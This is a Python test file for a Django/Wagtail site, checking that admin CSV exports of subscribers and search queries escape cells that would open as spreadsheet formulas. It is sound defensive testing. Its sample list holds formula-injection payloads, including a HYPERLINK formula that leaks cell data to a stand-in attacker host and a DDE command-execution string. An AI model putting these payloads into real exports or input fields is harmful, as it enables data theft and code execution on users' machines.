"""Admin CSV exports: text typed by the public never reaches a spreadsheet as a formula."""

import csv
import io

import pytest
from django.core.cache import cache
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from resources.exports import FORMULA_STARTS, spreadsheet_safe

ATTACKS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def cells(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def assert_no_formula(all_cells):
    assert all_cells
    for cell in all_cells:
        assert not cell.startswith(FORMULA_STARTS), cell


@given(st.text())
def test_no_safe_cell_starts_like_a_formula(value):
    safe = spreadsheet_safe(value)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe == value or safe == "'" + value  # nothing else changes


def test_other_values_pass_unchanged():
    assert spreadsheet_safe(-3) == -3 and spreadsheet_safe(None) is None
    assert spreadsheet_safe("anne@example.org") == "anne@example.org"


@pytest.fixture
def export(admin_client):
    def get(url_name):
        response = admin_client.get(reverse(url_name), {"export": "csv"})
        assert response.status_code == 200
        return cells(response)

    return get


def test_subscriber_export(export, db):
    from newsletter.models import Subscriber

    for i, attack in enumerate(ATTACKS):
        Subscriber.objects.create(email=f"{attack}{i}@example.org")
    exported = export("wagtailsnippets_newsletter_subscriber:list")
    assert "'-2+32@example.org" in exported
    assert_no_formula(exported)


def test_searches_without_results_export(export, db):
    from search.models import ZeroResultQuery

    for attack in ATTACKS:
        ZeroResultQuery.objects.create(query_string=attack, language="fr", hits=1)
    exported = export("search_zero_results")
    assert "'" + ATTACKS[0] in exported
    assert_no_formula(exported)


def test_wagtail_search_terms_export(export, db):
    """Wagtail's own report writes CSV cells verbatim (only its XLSX export guards formulas):
    the project serves it with safe cells at the same address."""
    from wagtail.contrib.search_promotions.models import Query

    for attack in ATTACKS:
        Query.get(attack).add_hit()
    exported = export("wagtailsearchpromotions:search_terms")
    assert any(cell.startswith("'") for cell in exported)
    assert_no_formula(exported)


def test_search_terms_report_still_needs_the_admin(client, db):
    response = client.get(reverse("wagtailsearchpromotions:search_terms"), {"export": "csv"})
    assert response.status_code == 302 and "/admin/login/" in response["Location"]


@pytest.mark.django_db
@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    start=st.sampled_from(["", *FORMULA_STARTS]),
    # Any text a search may record (PostgreSQL stores no NUL; the search drops it anyway).
    rest=st.text(st.characters(exclude_characters="\x00"), max_size=60),
)
def test_any_search_text_exports_without_a_formula(admin_client, start, rest):
    query = start + rest
    from wagtail.contrib.search_promotions.models import Query

    from search.models import ZeroResultQuery

    cache.clear()
    ZeroResultQuery.objects.all().delete()
    Query.objects.all().delete()
    ZeroResultQuery.objects.create(query_string=query, language="fr", hits=1)
    Query.get(query).add_hit()
    for url_name in ("search_zero_results", "wagtailsearchpromotions:search_terms"):
        response = admin_client.get(reverse(url_name), {"export": "csv"})
        assert_no_formula(cells(response))
